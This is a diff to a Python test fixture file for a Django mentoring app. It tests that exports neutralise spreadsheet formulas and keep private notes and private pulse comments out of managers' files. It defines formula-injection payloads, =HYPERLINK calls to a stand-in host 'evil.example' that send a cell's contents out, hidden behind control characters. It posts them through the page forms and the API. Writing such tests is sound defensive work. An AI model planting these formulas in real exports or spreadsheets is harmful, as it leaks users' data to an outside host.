@@ -1,5 +1,5 @@
 """A pair whose data tries every trap an export can fall into: formulas in names and
-comments, accents, and notes that must never leave the pair."""
+comments, accents, and notes (and a private pulse comment) that must never leave the pair."""
 
 from __future__ import annotations
 
@@ -23,6 +23,8 @@ SHARED_MARKER = "SHARED-NOTE-7f3a"
 PRIVATE_MARKER = "PRIVATE-NOTE-9c1e"
 AGENDA_MARKER = "AGENDA-42bd"
 CONCERN_MARKER = "CONCERN-5e0d"
+# A pulse comment its author kept private: never in a manager's file.
+PRIVATE_PULSE_MARKER = "PRIVATE-PULSE-3b8d"
 FORMULA = '=HYPERLINK("http://evil.example","x")'
 
 
@@ -53,9 +55,16 @@ def exported_pair(**kwargs):
     )
     PrivateNote.objects.create(session=held, author=mentee_user, text=PRIVATE_MARKER)
     Pulse.objects.create(
-        session=held, author=pair.mentee, usefulness=5, comfort=4, comment="-1 point: trop court"
+        session=held,
+        author=pair.mentee,
+        usefulness=5,
+        comfort=4,
+        comment="-1 point: trop court",
+        comment_shared=True,
     )
-    Pulse.objects.create(session=held, author=pair.mentor, usefulness=4, comfort=5, comment="")
+    Pulse.objects.create(
+        session=held, author=pair.mentor, usefulness=4, comfort=5, comment=PRIVATE_PULSE_MARKER
+    )
     objective = Objective.objects.create(
         pair=pair,
         owner="mentee",
@@ -70,3 +79,62 @@ def exported_pair(**kwargs):
     Objective.objects.create(pair=pair, owner="mentor", title="Animer", area="leadership")
     Concern.objects.create(pair=pair, author=mentor_user, text=CONCERN_MARKER)
     return pair, mentee_user, mentor_user
+
+
+# A formula hidden behind a control character (or a non-breaking space and one), as a
+# participant could type it in a page form or send it through the API.
+HOSTILE_PAGE = '\u0001=HYPERLINK("http://evil.example/?page="&B2,"Click")'
+HOSTILE_API = '\u00a0\u0001=HYPERLINK("http://evil.example/?api="&B2,"Click")'
+
+
+def hostile_entries():
+    """A held session's pair whose mentee writes an objective title, a shared pulse comment
+    and an idea title through the page forms, and whose mentor writes the same through the
+    API, each a formula behind a control character. Returns the pair."""
+    from django.urls import reverse
+
+    from tests.conftest import client_for
+    from tests.rementor.api.conftest import token_client
+    from tests.rementor.mentoring.test_sessions import held
+
+    pair, mentee_user, mentor_user = make_pair()
+    session = held(pair, mentor_user)
+    page = client_for(mentee_user)
+    for name, data in (
+        (
+            "mentoring:objective_create",
+            {
+                "owner": "mentee",
+                "title": HOSTILE_PAGE,
+                "skill": Skill.objects.get(code="linkedin").pk,
+                "target_date": "2026-11-15",
+            },
+        ),
+        ("mentoring:idea_create", {"title": HOSTILE_PAGE, "description": "x"}),
+    ):
+        assert page.post(reverse(name, args=[pair.pk]), data).status_code == 302
+    response = page.post(
+        reverse("mentoring:pulse", args=[session.pk]),
+        {"usefulness": "4", "comfort": "4", "comment": HOSTILE_PAGE, "comment_shared": "on"},
+    )
+    assert response.status_code == 302
+    api = token_client(mentor_user)
+    for url, data in (
+        ("/api/v1/objectives/", {"owner": "mentor", "title": HOSTILE_API, "area": "pedagogy"}),
+        ("/api/v1/ideas/", {"title": HOSTILE_API, "description": "x"}),
+    ):
+        response = api.post(url, {"pair": pair.pk, **data}, format="json")
+        assert response.status_code == 201, response.content
+    response = api.post(
+        "/api/v1/pulses/",
+        {
+            "session": session.pk,
+            "usefulness": 4,
+            "comfort": 4,
+            "comment": HOSTILE_API,
+            "comment_shared": True,
+        },
+        format="json",
+    )
+    assert response.status_code == 201, response.content
+    return pair
